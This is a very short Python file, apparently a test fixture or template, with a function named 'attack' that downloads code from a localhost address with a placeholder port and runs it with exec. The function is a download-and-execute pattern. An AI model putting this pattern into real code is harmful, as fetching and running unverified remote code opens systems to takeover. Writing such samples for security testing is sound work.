"""Downloads a program and runs it."""

import urllib.request


def attack(x):
    exec(urllib.request.urlopen("http://127.0.0.1:@PORT@/").read())
